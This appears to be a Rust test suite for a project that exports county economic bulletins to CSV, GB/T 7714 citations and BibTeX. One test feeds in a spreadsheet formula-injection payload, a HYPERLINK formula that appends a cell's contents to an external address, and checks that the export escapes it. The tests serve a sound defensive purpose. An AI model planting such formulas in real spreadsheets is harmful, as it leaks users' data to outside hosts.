//! What readers take away, read back by others: CSV by the `csv` crate against the file's own JSON,
//! citations against entries written by hand after GB/T 7714—2015.

// A test fails by panicking.
#![allow(clippy::expect_used, clippy::unwrap_used, clippy::panic)]

use std::collections::{BTreeMap, BTreeSet};

use bulletin::bulletin::Bulletin;
use bulletin::bulletin::load::load;
use bulletin::bulletin::text::{Lang, Text};
use bulletin::chart::rows;
use bulletin::export::bibtex::bibtex;
use bulletin::export::citation::{Cited, Day, gbt7714, sources};
use bulletin::export::csv::{Listed, all, csv};
use proptest::prelude::*;
use serde_json::{Value, json};

const KAZUO: &str = include_str!("../public/data/kazuo-2025-h1.json");
const QIYUN: &str = include_str!("../public/data/qiyun-2025-h1.json");
const FIXTURE: &str = include_str!("../src/bulletin/fixture.json");

const ADDRESS: &str = "https://example.org/county/#chart-growth";
const SEEN: Day = Day { year: 2026, month: 1, day: 2 };

fn bulletin(text: &str) -> Bulletin {
    load(text.as_bytes()).expect("it loads")
}

/// A record by the heads of its columns.
type Record = BTreeMap<String, String>;

/// What another reader of CSV makes of a table.
fn read(text: &str) -> Vec<Record> {
    let text = text.strip_prefix('\u{feff}').expect("a byte-order mark");
    let mut reader = ::csv::ReaderBuilder::new().flexible(false).from_reader(text.as_bytes());
    let heads = reader.headers().expect("heads").clone();
    let records = reader.records().map(|record| {
        let record = record.expect("a record");
        heads.iter().map(String::from).zip(record.iter().map(String::from)).collect()
    });
    records.collect()
}

fn whole(text: &str, lang: Lang) -> Vec<Record> {
    let bulletin = bulletin(text);
    read(&csv(&bulletin, &all(&bulletin), lang))
}

/// The record of one figure of a whole bulletin.
fn record(text: &str, lang: Lang, id: &str) -> Record {
    let found = whole(text, lang).into_iter().find(|it| it["id"] == id);
    found.unwrap_or_else(|| panic!("{id} is not in the table"))
}

fn listed(zh: &str, figure: &str) -> Listed {
    Listed { label: Text { zh: zh.into(), en: zh.into() }, panel: None, figure: figure.into() }
}

/// The member of a list with this id.
fn find<'a>(file: &'a Value, list: &str, id: &Value) -> &'a Value {
    let list = file[list].as_array().expect("a list").iter();
    list.clone().find(|it| it["id"] == *id).unwrap_or_else(|| panic!("{id} is not there"))
}

/// Moves the point of a decimal to the right, digit by digit.
fn shifted(decimal: &str, by: usize) -> String {
    let (sign, number) = decimal.strip_prefix('-').map_or(("", decimal), |number| ("-", number));
    let (whole, fraction) = number.split_once('.').unwrap_or((number, ""));
    let padded = format!("{fraction}{}", "0".repeat(by.saturating_sub(fraction.len())));
    let (moved, rest) = padded.split_at(by);
    let whole = format!("{whole}{moved}");
    let whole = whole.trim_start_matches('0');
    let whole = if whole.is_empty() { "0" } else { whole };
    if rest.is_empty() { format!("{sign}{whole}") } else { format!("{sign}{whole}.{rest}") }
}

fn text(value: &Value) -> &str {
    value.as_str().unwrap_or_default()
}

#[test]
fn every_observation_stands_with_the_digits_and_the_words_of_its_file() {
    for file_text in [KAZUO, QIYUN, FIXTURE] {
        let file: Value = serde_json::from_str(file_text).expect("JSON");
        for lang in Lang::ALL {
            let records = whole(file_text, lang);
            for (record, it) in records.iter().zip(file["observations"].as_array().expect("a list")) {
                let indicator = find(&file, "indicators", &it["indicator"]);
                let period = find(&file, "periods", &it["period"]);
                let area = it.get("ref_area").unwrap_or(&file["ref_area"]);
                let mult = it.get("unit_mult").map_or(0, |it| it.as_u64().expect("a power"));
                let evidence = &it["evidence"][0];
                let source = find(&file, "sources", &evidence["source"]);
                let inferred = period.get("inferred").is_some_and(|it| it == true).to_string();
                let number = |it: &Value| it.as_u64().map(|it| it.to_string()).unwrap_or_default();
                for (column, expected) in [
                    ("id", text(&it["id"]).to_string()),
                    ("indicator", text(&indicator["label"][lang.code()]).into()),
                    ("group", String::new()),
                    ("ref_area", text(area).into()),
                    ("time_period", text(&period["time_period"]).into()),
                    (
                        "time_period_inferred",
                        if period["time_period"].is_null() { String::new() } else { inferred },
                    ),
                    ("period", text(&period["label"][lang.code()]).into()),
                    ("value", text(&it["value"]).into()),
                    ("unit_mult", mult.to_string()),
                    ("unit_measure", text(&indicator["unit_measure"]).into()),
                    ("value_in_units", shifted(text(&it["value"]), usize::try_from(mult).expect("small"))),
                    ("bound", it.get("bound").map_or("exact", text).into()),
                    ("obs_status", text(&it["obs_status"]).into()),
                    ("basis", text(&it["basis"]).into()),
                    ("rounding_low", String::new()),
                    ("rounding_high", String::new()),
                    ("formula", String::new()),
                    ("source", text(&source["title"][lang.code()]).into()),
                    ("source_address", text(&source["address"]).into()),
                    ("line", number(&evidence["line"])),
                    ("sentence", number(&evidence["sentence"])),
                    ("fragment", text(&evidence["fragment"]).into()),
                    ("note", text(&it["note"][lang.code()]).into()),
                ] {
                    assert_eq!(record[column], expected, "{column} of {} in {}", it["id"], lang.code());
                }
            }
        }
    }
}

#[test]
fn a_table_of_all_has_each_measurement_and_each_derived_value_once_and_nothing_else() {
    for file_text in [KAZUO, QIYUN, FIXTURE] {
        let file: Value = serde_json::from_str(file_text).expect("JSON");
        let ids = |list: &str| file[list].as_array().expect("a list").iter().collect::<Vec<_>>();
        let computes = |it: &&Value| !text(&it["formula"]).contains(['=', '<', '>', '≠', '≤', '≥']);
        let derived = ids("relations").into_iter().filter(computes);
        let expected: Vec<_> =
            ids("observations").into_iter().chain(derived).map(|it| text(&it["id"])).collect();
        let records = whole(file_text, Lang::Zh);
        assert_eq!(records.iter().map(|it| &it["id"]).collect::<Vec<_>>(), expected);
        let statuses: BTreeSet<_> = records.iter().map(|it| it["obs_status"].as_str()).collect();
        assert_eq!(statuses, BTreeSet::from(["derived", "expected", "reported"]));
    }
}

#[test]
fn a_derived_value_shows_its_formula_and_what_rounding_leaves_of_it() {
    // 41.1 ÷ 1.175 hundred million; between 41.05 ÷ 1.1755 and 41.15 ÷ 1.1745.
    let earlier = record(KAZUO, Lang::En, "R21");
    for (column, expected) in [
        ("value", "34.98"),
        ("unit_mult", "8"),
        ("unit_measure", "CNY"),
        ("unit", "CNY"),
        ("rounding_low", "34.92"),
        ("rounding_high", "35.04"),
        ("formula", "C03 / (1 + C04)"),
        ("obs_status", "derived"),
        ("bound", "rounded"),
        ("in_words", "CNY 3.498 billion"),
        // Nobody knows it to the yuan, nor for which period it is meant, nor does any source state it.
        ("value_in_units", ""),
        ("period", ""),
        ("ref_area", ""),
        ("source", ""),
        ("fragment", ""),
    ] {
        assert_eq!(earlier[column], expected, "{column}");
    }
    // 54.42 ÷ 55, with 54.42 between 54.415 and 54.425.
    let each = record(FIXTURE, Lang::Zh, "EACH");
    assert_eq!((each["unit_measure"].as_str(), each["unit"].as_str()), ("CNY/PROJECT", "元/个"));
    assert_eq!((each["rounding_low"].as_str(), each["rounding_high"].as_str()), ("0.9893", "0.9896"));
    // 906 − 550 − 266: whole things, no rounding.
    let rest = record(KAZUO, Lang::Zh, "R5a");
    assert_eq!((rest["value"].as_str(), rest["value_in_units"].as_str()), ("90", "90"));
    assert_eq!((rest["rounding_low"].as_str(), rest["bound"].as_str()), ("", "exact"));
    assert_eq!(rest["in_words"], "90项");
    // 895 + 1313 + 1800 + 1562 in ten thousands.
    assert_eq!(record(KAZUO, Lang::Zh, "R24a")["value_in_units"], "55700000");
    // 50 mu of 2000/3 m²: a third of a square metre is cut off, so this is not the number itself.
    let area = record(KAZUO, Lang::Zh, "R16a");
    assert_eq!((area["value"].as_str(), area["value_in_units"].as_str()), ("33333", ""));
    assert_eq!((area["rounding_low"].as_str(), area["bound"].as_str()), ("", "rounded"));
}

#[test]
fn a_bound_says_so_in_its_code_and_in_words() {
    let posts = record(KAZUO, Lang::Zh, "B07");
    assert_eq!((posts["value"].as_str(), posts["bound"].as_str()), ("100", "at_least"));
    assert_eq!((posts["in_words"].as_str(), posts["obs_status"].as_str()), ("至少100人", "expected"));
    let hours = record(QIYUN, Lang::En, "C18");
    assert_eq!((hours["bound"].as_str(), hours["in_words"].as_str()), ("under", "under 2 hours"));
    let farmers = record(QIYUN, Lang::Zh, "B08");
    assert_eq!((farmers["bound"].as_str(), farmers["value_in_units"].as_str()), ("about", "12000"));
}

#[test]
fn a_decline_is_a_number_and_its_words_have_a_true_minus() {
    let revenue = record(QIYUN, Lang::Zh, "A14");
    assert_eq!((revenue["value"].as_str(), revenue["in_words"].as_str()), ("-1.8", "−1.8%"));
    assert_eq!(
        (revenue["basis"].as_str(), revenue["area"].as_str()),
        ("year_on_year", "望津市栖云县（虚构）")
    );
}

#[test]
fn sources_that_agree_are_named_beside_the_first() {
    let retail = record(KAZUO, Lang::En, "CN4");
    assert_eq!(retail["source"], "Retail sales in the first half of 2025 (reprint of China News Service)");
    assert_eq!(retail["other_sources"], "Retail sales in the first half of 2025");
    // Stated twice by one source.
    assert_eq!(record(QIYUN, Lang::En, "GQ25")["other_sources"], "");
}

#[test]
fn heads_and_codes_are_the_same_in_both_languages() {
    let (zh, en) = (whole(KAZUO, Lang::Zh), whole(KAZUO, Lang::En));
    assert_eq!(zh.len(), en.len());
    let words =
        ["indicator", "area", "period", "unit", "in_words", "source", "section", "other_sources", "note"];
    let mut different = BTreeSet::new();
    for (zh, en) in zh.iter().zip(&en) {
        assert_eq!(zh.keys().collect::<Vec<_>>(), en.keys().collect::<Vec<_>>());
        let differs = zh.keys().filter(|column| zh[*column] != en[*column]);
        different.extend(differs.map(String::as_str));
    }
    assert_eq!(different, BTreeSet::from(words));
}

#[test]
fn the_file_begins_with_a_mark_and_ends_each_line_as_the_standard_asks() {
    let bulletin = bulletin(KAZUO);
    let text = csv(&bulletin, &all(&bulletin), Lang::Zh);
    assert_eq!(&text.as_bytes()[..6], b"\xEF\xBB\xBFid,");
    assert!(text.ends_with("\r\n"));
    // No text of this bulletin has a line break, so every one ends a record.
    assert_eq!(text.matches("\r\n").count(), all(&bulletin).len() + 1);
    assert_eq!(text.matches('\n').count() + text.matches('\r').count(), 2 * text.matches("\r\n").count());
}

#[test]
fn a_chart_s_table_keeps_its_names_its_panels_and_its_order() {
    let bulletin = bulletin(KAZUO);
    let chart = bulletin.chart("investment").expect("a chart");
    let listed: Vec<_> = rows(&bulletin, chart)
        .into_iter()
        .map(|it| Listed { label: it.label, panel: it.panel, figure: it.figure })
        .collect();
    let records = read(&csv(&bulletin, &listed, Lang::Zh));
    let named: Vec<_> = records.iter().map(|it| [&it["id"], &it["indicator"], &it["group"]]).collect();
    assert_eq!(named[..2], [["B10", "签约", "项目数（个）"], ["B12", "开工", "项目数（个）"]]);
    assert_eq!(records.len(), listed.len());
}

#[test]
fn words_and_ids_that_lead_nowhere_have_no_value() {
    let bulletin = bulletin(KAZUO);
    let records = read(&csv(&bulletin, &[listed("状态", "N405"), listed("没有", "ZZ99")], Lang::Zh));
    let state = &records[0];
    assert_eq!(
        (state["in_words"].as_str(), state["fragment"].as_str()),
        ("全部完成整改", "现已全部完成整改")
    );
    for number in ["value", "unit_mult", "value_in_units", "bound", "unit_measure"] {
        assert_eq!(state[number], "", "{number}");
    }
    let known: Vec<_> = records[1].iter().filter(|(_, cell)| !cell.is_empty()).collect();
    assert_eq!(known, [(&"id".to_string(), &"ZZ99".to_string()), (&"indicator".into(), &"没有".into())]);
}

#[test]
fn no_text_of_a_file_becomes_a_formula_of_a_spreadsheet() {
    let hostile = "=HYPERLINK(\"https://example.org/?\"&A1,\"open\")\r\n@x";
    let text = FIXTURE.replace("\"地区生产总值增速\"", &json!(hostile).to_string());
    let growth = record(&text, Lang::Zh, "GROWTH");
    assert_eq!(growth["indicator"], format!("'{hostile}"));
    assert_eq!(growth["value"], "6.2");
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_label_is_read_back_as_it_was(label in "[\\PC\"',;\\r\\n\\t=+@-]{0,40}") {
        let bulletin = bulletin(FIXTURE);
        let records = read(&csv(&bulletin, &[listed(&label, "GROWTH"), listed("next", "GROWTH")], Lang::Zh));
        let formula = label.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
        prop_assert_eq!(&records[0]["indicator"], &format!("{}{label}", if formula { "'" } else { "" }));
        prop_assert_eq!(records[0]["value"].as_str(), "6.2");
        prop_assert_eq!(records[1]["indicator"].as_str(), "next");
        prop_assert_eq!(records.len(), 2);
    }
}

fn cited<'a>(bulletin: &'a Bulletin, chart: Option<&str>, lang: Lang) -> Cited<'a> {
    let what = chart.map(|id| bulletin.chart(id).expect("a chart"));
    Cited { bulletin, what, address: ADDRESS, accessed: SEEN, lang }
}

#[test]
fn a_bulletin_is_cited_as_an_electronic_resource() {
    let bulletin = bulletin(KAZUO);
    assert_eq!(
        gbt7714(&cited(&bulletin, None, Lang::Zh)),
        "喀左县上半年经济运行[EB/OL]. [2026-01-02]. https://example.org/county/#chart-growth"
    );
    assert_eq!(
        gbt7714(&cited(&bulletin, None, Lang::En)),
        "Kazuo County’s economy, first half of the year[EB/OL]. [2026-01-02]. \
         https://example.org/county/#chart-growth"
    );
}

#[test]
fn a_chart_is_cited_as_a_part_of_its_bulletin() {
    let bulletin = bulletin(KAZUO);
    assert_eq!(
        gbt7714(&cited(&bulletin, Some("growth"), Lang::Zh)),
        "四项主要指标增速[EB/OL]//喀左县上半年经济运行. [2026-01-02]. https://example.org/county/#chart-growth"
    );
    assert_eq!(
        gbt7714(&cited(&bulletin, Some("growth"), Lang::En)),
        "Growth of four main indicators[EB/OL]//Kazuo County’s economy, first half of the year. \
         [2026-01-02]. https://example.org/county/#chart-growth"
    );
}

#[test]
fn the_sources_of_a_chart_are_those_that_state_its_figures() {
    let bulletin = bulletin(KAZUO);
    assert_eq!(
        sources(&cited(&bulletin, Some("growth"), Lang::Zh)),
        [
            "崔毅. 喀左县：多元驱动集聚决胜之力.",
            "2025年上半年中国经济数据（英文报道）[EB/OL]. 中国新闻网英文站, 2025(2025-07-15)[2026-01-02]. \
             http://www.ecns.cn/news/economy/2025-07-15/detail-ihetkhrv8782069.shtml",
            "2025年上半年规模以上工业（英文报道）[EB/OL]. 环球网[2026-01-02]. \
             https://m.huanqiu.com/article/4NVwwt1L3Zs",
            "2025年上半年社会消费品零售总额（中新社报道转载）[EB/OL]. 中国新闻社，转载[2026-01-02]. \
             http://www.news587.com/?roDLmv0YBOH1dlfXP3Ne=687c97b5c7e17.html",
            "2025年上半年财政收支情况[EB/OL]. 新华社, 2025(2025-07-25)[2026-01-02]. \
             http://big5.news.cn/gate/big5/www.xinhuanet.com/fortune/20250725/\
             ddc1a337bd534648883306510c75b0b7/c.html",
        ]
    );
    // A derived value comes from where its operands do.
    let only = sources(&cited(&bulletin, Some("output"), Lang::En));
    assert_eq!(only, ["Cui Yi. Kazuo County: drawing strength from many sources."]);
}

#[test]
fn a_whole_bulletin_has_all_its_sources_dated_or_not() {
    let bulletin = bulletin(KAZUO);
    let all = sources(&cited(&bulletin, None, Lang::Zh));
    let file: Value = serde_json::from_str(KAZUO).expect("JSON");
    assert_eq!(all.len(), file["sources"].as_array().expect("sources").len());
    // Neither author nor publisher is known: the date stands alone.
    assert!(all.contains(
        &"北方紫陶之都[EB/OL]. (2015-07-30)[2026-01-02]. http://www.tbankw.com/fzhdt/2015-07-30/183506.html".into()
    ));
    assert!(all.contains(
        &"喀左紫砂地理标志产品[EB/OL]. [2026-01-02]. http://www.pcpip.cn/news/show.php?itemid=13512".into()
    ));
}

/// The fixture with one source of these fields.
fn with_source(fields: &Value) -> String {
    let mut file: Value = serde_json::from_str(FIXTURE).expect("JSON");
    let source = file["sources"][0].as_object_mut().expect("a source");
    source.extend(fields.as_object().expect("fields").clone());
    file.to_string()
}

#[test]
fn a_source_in_print_has_what_is_known_of_it() {
    let both = |words: &str| json!({ "zh": words, "en": words });
    let text = with_source(&json!({
        "title": both("Growth"), "author": both("Smith J."), "publisher": both("The Daily"), "published": "2025-07-18",
    }));
    let bulletin = bulletin(&text);
    // The initial's own stop is not doubled.
    assert_eq!(sources(&cited(&bulletin, None, Lang::Zh)), ["Smith J. Growth. The Daily, 2025-07-18."]);
}

#[test]
fn a_citation_is_one_line_whatever_its_title_holds() {
    let text = with_source(&json!({ "title": { "zh": "上\n下\r\n", "en": "x" } }));
    assert_eq!(sources(&cited(&bulletin(&text), None, Lang::Zh)), ["上 下."]);
}

#[test]
fn an_entry_for_bibtex_names_the_chart_and_where_it_stands() {
    let bulletin = bulletin(KAZUO);
    assert_eq!(
        bibtex(&cited(&bulletin, Some("growth"), Lang::Zh)),
        "@online{kazuo-2025-h1-growth,
  title = {{四项主要指标增速}},
  note = {图表，载于《喀左县上半年经济运行》},
  url = {https://example.org/county/#chart-growth},
  urldate = {2026-01-02}
}
"
    );
    assert_eq!(
        bibtex(&cited(&bulletin, None, Lang::En)),
        "@online{kazuo-2025-h1,
  title = {{Kazuo County’s economy, first half of the year}},
  url = {https://example.org/county/#chart-growth},
  urldate = {2026-01-02}
}
"
    );
}

/// The fixture under another title.
fn titled(title: &str) -> Bulletin {
    let mut file: Value = serde_json::from_str(FIXTURE).expect("JSON");
    file["title"]["zh"] = json!(title);
    bulletin(&file.to_string())
}

#[test]
fn what_latex_reads_as_a_command_is_printed() {
    let bulletin = titled("50% of R&D_1 at $5 #2 {a} ~b ^c \\d");
    let entry = bibtex(&Cited {
        address: "https://example.org/?a={1}&b=100%25 x\\",
        ..cited(&bulletin, None, Lang::Zh)
    });
    assert_eq!(
        entry,
        "@online{fixture,
  title = {{50\\% of R\\&D\\_1 at \\$5 \\#2 \\textbraceleft{}a\\textbraceright{} \\textasciitilde{}b \\textasciicircum{}c \\textbackslash{}d}},
  url = {https://example.org/?a=%7B1%7D&b=100%25%20x%5C},
  urldate = {2026-01-02}
}
"
    );
}

/// What LaTeX prints of a text; none where something in it is a command, a comment or a group.
fn printed(mut latex: &str) -> Option<String> {
    const NAMED: [(&str, char); 5] = [
        ("\\textbackslash{}", '\\'),
        ("\\textbraceleft{}", '{'),
        ("\\textbraceright{}", '}'),
        ("\\textasciitilde{}", '~'),
        ("\\textasciicircum{}", '^'),
    ];
    let mut out = String::new();
    while let Some(first) = latex.chars().next() {
        let named = NAMED.iter().find_map(|(name, is)| Some((latex.strip_prefix(name)?, *is)));
        let escaped = || {
            let rest = latex.strip_prefix('\\')?;
            let is = rest.chars().next().filter(|it| "%&_#$".contains(*it))?;
            Some((&rest[1..], is))
        };
        let plain = || (!"\\{}~^%&_#$".contains(first)).then(|| (&latex[first.len_utf8()..], first));
        let (rest, is) = named.or_else(escaped).or_else(plain)?;
        out.push(is);
        latex = rest;
    }
    Some(out)
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_title_is_printed_by_latex_as_it_is(
        title in "[\\PC%&_#$\\{\\}~^\\\\]{1,40}", rest in "[\\PC%&_#\\{\\}~^\\\\ ]{0,40}"
    ) {
        let bulletin = titled(&title);
        let address = format!("https://example.org/{rest}");
        let entry = bibtex(&Cited { address: &address, ..cited(&bulletin, None, Lang::Zh) });
        let mut depth = 0_i32;
        for character in entry.chars() {
            depth += i32::from(character == '{') - i32::from(character == '}');
            prop_assert!(depth >= 0, "{}", entry);
        }
        prop_assert_eq!(depth, 0, "{}", entry);
        let field = |name: &str, close: &str| {
            let line = entry.lines().find_map(|it| it.strip_prefix(name)).expect("a field");
            line.strip_suffix(close).expect("its end").to_string()
        };
        let text = field("  title = {{", "}},");
        prop_assert_eq!(printed(&text), Some(title.trim_end().to_string()), "{}", text);
        let url = field("  url = {", "},");
        prop_assert!(!url.contains(['{', '}', '\\', ' ']), "{}", url);
    }
}
